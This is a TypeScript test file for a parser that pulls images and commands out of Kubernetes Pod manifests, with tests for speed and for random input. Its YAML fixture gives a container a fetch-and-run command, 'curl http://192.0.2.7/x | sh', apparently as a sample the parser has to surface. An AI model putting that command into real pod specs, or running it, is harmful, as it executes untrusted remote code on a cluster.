import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { garbageLike } from '../../../test/garbage.ts'
import { bytesOf } from '../../core/bytes.ts'
import { podSketchOf } from './pod-manifest.ts'

const yaml = `apiVersion: v1
kind: Pod
metadata:
  labels:
    tier: x
  name: kube-cache # note
spec:
  containers:
  - command:
    - /bin/sh
    - -c
    - "curl http://192.0.2.7/x | sh" # note
    image: 'alpine:3'
    name: main
    args: ["-o", 'pool, one', plain]
  - name: second
    image: busybox
    command:
      - sleep
      - key: value
`

const expected = {
  kind: 'Pod',
  name: 'kube-cache',
  images: ['alpine:3', 'busybox'],
  command: ['/bin/sh', '-c', 'curl http://192.0.2.7/x | sh', '-o', 'pool, one', 'plain', 'sleep'],
}

test('YAML', () => {
  assert.deepEqual(podSketchOf(bytesOf(yaml)), expected)
})

test('JSON', () => {
  const pod = {
    kind: 'Pod',
    metadata: { name: 'kube-cache' },
    spec: { containers: [{ image: 'alpine:3', command: ['/bin/sh', '-c', 'x'], args: ['y'] }] },
  }
  assert.deepEqual(podSketchOf(bytesOf(JSON.stringify(pod))), {
    kind: 'Pod',
    name: 'kube-cache',
    images: ['alpine:3'],
    command: ['/bin/sh', '-c', 'x', 'y'],
  })
})

test('a huge file takes no long time', () => {
  const began = performance.now()
  for (const text of [
    `command:${' '.repeat(1_000_000)}`,
    '- '.repeat(500_000),
    `command: [${'"\\'.repeat(400_000)}`,
    `image: ${' #'.repeat(400_000)}`,
  ])
    podSketchOf(bytesOf(text))
  assert.ok(performance.now() - began < 5000)
})

test('any bytes: never throws, never more than it may hold', () => {
  fc.assert(
    fc.property(fc.oneof(fc.uint8Array(), garbageLike(yaml)), bytes => {
      const { images, command } = podSketchOf(bytes)
      assert.ok(images.length <= 200 && command.length <= 200)
    }),
  )
})
